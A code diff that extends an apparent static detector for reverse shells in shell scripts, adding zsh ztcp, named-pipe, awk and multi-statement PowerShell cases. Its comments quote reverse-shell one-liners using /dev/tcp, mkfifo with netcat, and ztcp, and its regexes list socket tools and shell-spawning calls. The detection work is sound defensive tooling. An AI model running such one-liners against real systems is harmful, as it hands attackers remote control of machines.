@@ -1,7 +1,7 @@
 import { SHELL_NAMES } from '../../../knowledge/commands.ts';
 import { isLoopbackHost } from '../../../knowledge/hosts.ts';
 import type { Command, CommandScript } from '../model.ts';
-import { interpretation, pipedInto } from './flow.ts';
+import { inlineCode, interpretation, pathKey, pipedInto } from './flow.ts';
 import { memoize } from './types.ts';
 import type { ShellFinding } from './types.ts';
 
@@ -12,7 +12,7 @@ export type ReverseShell = ShellFinding<ReverseShellKind>;
 export const findReverseShell = memoize((script: CommandScript): readonly ReverseShell[] => {
   const found: ReverseShell[] = [];
   for (const command of script.commands) {
-    const finding = throughDevice(command, script) ?? throughNetcat(command) ?? throughPipe(command, script) ?? throughSocat(command) ?? throughCode(command);
+    const finding = throughDevice(command, script) ?? throughNetcat(command) ?? throughPipe(command, script) ?? throughSocat(command) ?? throughCode(command) ?? throughStream(command, script);
     if (finding) found.push(finding);
   }
   return found;
@@ -26,6 +26,7 @@ function report(command: Command, kind: ReverseShellKind, detail: string): Rever
 
 /** `bash -i >& /dev/tcp/h/p 0>&1`; `exec 5<>/dev/tcp/h/p` and later a shell or command loop on that descriptor. */
 function throughDevice(command: Command, script: CommandScript): ReverseShell | null {
+  if (command.name === 'ztcp') return throughZsh(command, script);
   const device = command.redirects.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.value));
   if (!device) return null;
   const host = device.target.value.split('/')[3] ?? '';
@@ -34,6 +35,14 @@ function throughDevice(command: Command, script: CommandScript): ReverseShell | 
   if (command.name !== 'exec' && command.name !== null) return null;
   const later = script.commands.find((other) => other.range[0] > command.range[0] && runsDescriptor(other));
   return later ? report(later, 'device', host) : null;
+}
+
+/** `ztcp h p; zsh >&$REPLY 0>&$REPLY`: zsh leaves the descriptor of the socket in `$REPLY`. */
+function throughZsh(command: Command, script: CommandScript): ReverseShell | null {
+  const [host] = command.args.filter(({ value }) => !value.startsWith('-'));
+  if (!host || isLoopbackHost(host.value) || command.args.some(({ value }) => /^-[a-z]{0,4}[lc]/.test(value))) return null;
+  const later = script.commands.find((other) => isShell(other) && other.range[0] > command.range[0] && (runsDescriptor(other) || other.redirects.some(({ target }) => target.variables.includes('REPLY'))));
+  return later ? report(later, 'device', host.value) : null;
 }
 
 /** A shell that reads a numbered descriptor, or a command that is whatever was read from one. */
@@ -57,11 +66,22 @@ function throughNetcat(command: Command): ReverseShell | null {
 const SOCKETS = /^(?:nc|ncat|netcat|telnet|socat|websocat)$/i;
 const isSocket = (command: Command): boolean => (command.name !== null && SOCKETS.test(command.name)) || (command.name === 'openssl' && command.args[0]?.value === 's_client');
 
-/** `mkfifo p; cat p | sh -i | nc h 1 > p`, `nc h 1 | sh | nc h 2`, `telnet … | sh | telnet …`. */
+const obeysInput = (command: Command): boolean => isShell(command) && interpretation(command)?.readsInput === true && !command.input;
+
+/** True when a command reads a file that the other one writes: the way back through a named pipe. */
+function readsFrom(reader: Command, writer: Command): boolean {
+  const keys = (command: Command, sign: '<' | '>'): readonly (string | null)[] => command.redirects.filter(({ operator, descriptor }) => operator.startsWith(sign) && descriptor !== 2).map(({ target }) => pathKey(target));
+  const written = keys(writer, '>');
+  return keys(reader, '<').some((key) => key !== null && written.includes(key));
+}
+
+/** `mkfifo p; cat p | sh -i | nc h 1 > p`, `sh < p | nc h 1 > p`, `telnet h 1 < p | sh > p`, `nc h 1 | sh | nc h 2`. */
 function throughPipe(command: Command, script: CommandScript): ReverseShell | null {
   if (!isSocket(command)) return null;
-  const shell = pipedInto(command).find((stage) => isShell(stage) && interpretation(stage)?.readsInput === true && !stage.input);
-  if (!shell || shell.upstream.length === 0) return null;
+  const back = command.pipeline.slice(command.stage + 1).find((stage) => obeysInput(stage) && readsFrom(command, stage));
+  if (back) return report(back, 'pipe', command.name ?? '');
+  const shell = pipedInto(command).find(obeysInput);
+  if (!shell || (shell.upstream.length === 0 && !readsFrom(shell, command))) return null;
   const fifo = script.commands.some(({ name }) => name === 'mkfifo' || name === 'mknod');
   const fromSocket = pipedInto(shell).some(isSocket);
   const interactive = shell.args.some(({ value }) => /^-[a-z]{0,4}i/.test(value));
@@ -81,8 +101,24 @@ function throughCode(command: Command): ReverseShell | null {
   const isPowershell = /^(?:powershell|pwsh|iex|invoke-expression|\$?client)$/.test(name) || command.dialect === 'powershell';
   const words = isPowershell ? [command.word, ...command.args] : command.args;
   if (!isPowershell && !/^(?:python[\d.]*|perl|ruby|php|lua|awk|gawk|node|bun|tclsh|expect)$/.test(name)) return null;
-  const code = words.map(({ text }) => text).join(' ').slice(0, 8192);
+  const code = `${words.map(({ text }) => text).join(' ').slice(0, 8192)} ${isPowershell ? '' : inlineCode(command).slice(0, 8192)}`;
   const socket = /socket\.socket|\bsocket\s{0,3}\(|IO::Socket|TCPSocket|fsockopen|stream_socket_client|\/inet\/tcp\/|require\s{0,3}\(\s{0,3}["']net["']|net\.connect|createConnection|Net\.Sockets\.TCPClient|socket\.tcp/i.test(code);
-  const shell = /\/bin\/(?:ba|z|da)?sh|\bpty\.spawn|dup2|exec\s{0,3}["'(]|child_process|\bspawn\s{0,3}\(|cmd\.exe|\biex\b|invoke-expression|GetStream\(\)[^\n]{0,2000}\biex\b/i.test(code);
-  return socket && shell ? report(command, 'code', name) : null;
+  const isProgram = code.includes('\n') && !isPowershell;
+  const shell = isProgram ? /\/bin\/(?:ba|z|da)?sh|\bpty\.spawn|dup2|cmd\.exe/i.test(code) : /\/bin\/(?:ba|z|da)?sh|\bpty\.spawn|dup2|exec\s{0,3}["'(]|child_process|\bspawn\s{0,3}\(|cmd\.exe|\bIO\.popen|\biex\b|invoke-expression|GetStream\(\)[^\n]{0,2000}\biex\b/i.test(code);
+  return socket && (shell || runsAnswers(code)) ? report(command, 'code', name) : null;
+}
+
+/** awk reads from the socket (`s |& getline c`), and from what it read as a command (`c |& getline`). */
+function runsAnswers(code: string): boolean {
+  const read = new Set([...code.matchAll(/\b([A-Za-z_]\w{0,30})\s{0,3}\|&\s{0,3}getline\b(?:\s{1,3}([A-Za-z_]\w{0,30}))?/g)].slice(0, 50).flatMap(([, from, into]) => [`<${from ?? ''}`, `>${into ?? ''}`]));
+  return [...read].some((name) => name.startsWith('>') && name.length > 1 && read.has(`<${name.slice(1)}`));
+}
+
+/** PowerShell over several statements: a TCP client, its stream, and `iex` of what comes in. */
+function throughStream(command: Command, script: CommandScript): ReverseShell | null {
+  if (command.dialect !== 'powershell') return null;
+  const isClient = command.name === 'new-object' ? /Net\.Sockets\.TCPClient/i.test(command.args[0]?.text ?? '') : /Net\.Sockets\.TCPClient\]::new/i.test(command.word.text);
+  if (!isClient || !/GetStream\s{0,3}\(/i.test(script.source.text.slice(0, 65_536)) || command.args.some(({ value }) => isLoopbackHost(value))) return null;
+  const later = script.commands.some((other) => other.range[0] > command.range[0] && (other.name === 'iex' || other.name === 'invoke-expression'));
+  return later ? report(command, 'code', 'TCPClient') : null;
 }
